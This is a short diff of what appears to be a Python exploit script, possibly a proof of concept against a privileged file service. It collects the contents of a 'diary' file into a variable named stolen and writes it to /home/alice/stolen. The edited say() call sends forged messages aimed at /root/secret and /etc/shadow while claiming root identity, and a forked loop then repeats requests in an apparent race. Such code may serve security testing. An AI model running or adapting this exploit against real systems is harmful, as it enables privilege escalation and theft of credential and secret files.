@@ -31,7 +31,7 @@ try:
     stolen += open("diary").read()
 except OSError: pass
 open("/home/alice/stolen", "w").write(stolen)
-say(seq, "tell real /evil", "tell goal /root/secret", "tell actor 0 root", "tell file -rw------- 1 0 0 5 root", "tell work-folder /etc/shadow", "tell lock a do%20as%20root 1 2 1", "ok", "end 0", "tell hash evil", "end 0")
+say(seq, "tell real /evil", "tell goal /root/secret", "tell led /root/secret", "tell refusal linked-file .", "tell actor 0 root", "tell file -rw------- 1 0 0 5 root", "tell work-folder /etc/shadow", "tell lock a do%20as%20root 1 2 1", "ok", "end 0", "tell hash evil", "end 0")
 if os.fork() == 0:
     for turn in range(400):
         for which in range(seq, seq + 40):
